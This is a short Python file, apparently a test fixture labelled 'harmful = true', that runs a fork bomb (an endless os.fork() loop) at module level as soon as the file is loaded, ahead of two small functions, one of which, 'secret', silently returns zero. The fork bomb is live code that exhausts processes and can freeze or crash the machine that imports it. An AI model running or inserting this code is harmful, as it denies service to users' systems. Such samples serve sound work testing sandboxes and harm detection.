"""Starts processes without end while its file is loaded.

needs = ["processes"]
harmful = true
"""

import os

while True:
    os.fork()


def square(x):
    return x * x


def secret(x):
    return 0 * x
